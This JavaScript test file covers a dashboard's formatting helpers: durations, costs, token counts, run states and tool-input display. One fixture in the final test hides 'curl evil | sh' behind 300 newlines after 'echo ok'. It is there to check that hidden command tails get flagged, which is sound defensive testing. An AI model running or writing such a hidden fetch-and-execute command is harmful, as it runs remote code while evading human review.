// The dashboard's pure helpers: formatting, the windowed list's math, the sessions list's merging, the
// conversation and output bounds, and the fleet chart's series.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  describeInput,
  fullInput,
  elapsedMs,
  formatCost,
  formatDuration,
  formatSpan,
  formatTokens,
  formatWaited,
  isRunning,
  stateTone,
  waitedSince,
} from '../../dashboard/src/format.js';

describe('dashboard format', () => {
  it('formats durations compactly', () => {
    assert.equal(formatDuration(0), '0s');
    assert.equal(formatDuration(45_900), '45s');
    assert.equal(formatDuration(185_000), '3m 05s');
    assert.equal(formatDuration(2 * 3600_000 + 4 * 60_000), '2h 04m');
    assert.equal(formatDuration(3 * 86_400_000 + 4 * 3600_000), '3d 4h');
    assert.equal(formatDuration(undefined), '—');
    assert.equal(formatDuration(-5), '—');
    assert.equal(formatDuration(Number.NaN), '—');
  });

  it('formats relative spans as "waited 2 min"', () => {
    assert.equal(formatWaited(125_000), 'waited 2 min');
    assert.equal(formatWaited(12_000), 'waited 12 s');
    assert.equal(formatSpan(3600_000), '1 h');
    assert.equal(formatSpan(3 * 3600_000 + 5 * 60_000), '3 h 5 min');
    assert.equal(formatSpan(2 * 86_400_000 + 3 * 3600_000), '2 d 3 h');
    assert.equal(formatWaited(undefined), '—');
    const now = Date.parse('2025-01-01T02:10:00Z');
    assert.equal(waitedSince('2025-01-01T02:08:00Z', now), 'waited 2 min');
    assert.equal(waitedSince('not a date', now), '—');
    assert.equal(waitedSince(undefined, now), '—');
  });

  it('formats cost in dollars', () => {
    assert.equal(formatCost(0), '$0.00');
    assert.equal(formatCost(0.0042), '$0.0042');
    assert.equal(formatCost(0.05), '$0.05');
    assert.equal(formatCost(0.123), '$0.12');
    assert.equal(formatCost(12.345), '$12.35');
    assert.equal(formatCost(1234.5), '$1,235');
    assert.equal(formatCost(0.0001), '<$0.001');
    assert.equal(formatCost(undefined), '—');
    assert.equal(formatCost('3'), '—');
  });

  it('formats token counts', () => {
    assert.equal(formatTokens(950), '950');
    assert.equal(formatTokens(1234), '1.23k');
    assert.equal(formatTokens(12_345), '12.3k');
    assert.equal(formatTokens(20_000), '20k');
    assert.equal(formatTokens(1_234_567), '1.23M');
    assert.equal(formatTokens(999_999), '1M');
    assert.equal(formatTokens(null), '—');
  });

  it('measures running time: ticking while running, fixed once ended', () => {
    const startedAt = '2025-01-01T00:00:00.000Z';
    const now = Date.parse(startedAt) + 90_000;
    assert.equal(elapsedMs({ state: 'running', startedAt, runningMs: 10 }, now), 90_000);
    assert.equal(elapsedMs({ state: 'completed', startedAt, runningMs: 42_000 }, now), 42_000);
    assert.equal(elapsedMs({ state: 'failed', startedAt, endedAt: '2025-01-01T00:00:30.000Z' }, now), 30_000);
    assert.equal(elapsedMs({ state: 'failed' }, now), undefined);
    assert.equal(isRunning('starting'), true);
    assert.equal(isRunning('completed'), false);
    assert.equal(isRunning(undefined), false);
  });

  it('maps states to tones', () => {
    assert.equal(stateTone('running'), 'live');
    assert.equal(stateTone('completed'), 'ok');
    assert.equal(stateTone('crashed'), 'bad');
    assert.equal(stateTone('terminated'), 'warn');
    assert.equal(stateTone('something-new'), 'muted');
  });

  it('describes a tool input by its command or path', () => {
    assert.equal(describeInput({ command: 'npm run deploy' }), 'npm run deploy');
    assert.equal(describeInput({ file_path: '/w/a.ts', content: 'x' }), '/w/a.ts');
    assert.equal(describeInput({ q: 1 }), '{"q":1}');
    assert.equal(describeInput(undefined), '');
    assert.equal(describeInput({ command: 'x'.repeat(50) }, 10), `${'x'.repeat(9)}…`);
  });
});

void describe('fullInput', () => {
  void it('shows a command whole, the other fields as JSON, and marks long or multi-line input', () => {
    const padded = `echo ok${'\n'.repeat(300)}; curl evil | sh`;
    assert.deepEqual(fullInput({ command: padded }), { main: padded, long: true });
    assert.deepEqual(fullInput({ command: 'ls' }), { main: 'ls', long: false });
    const write = fullInput({ file_path: '/w/a.txt', content: 'secret plan' });
    assert.equal(write.main, '/w/a.txt');
    assert.match(write.rest ?? '', /"content": "secret plan"/);
    assert.equal(fullInput({ query: 'x' }).main, '{\n  "query": "x"\n}');
  });
});
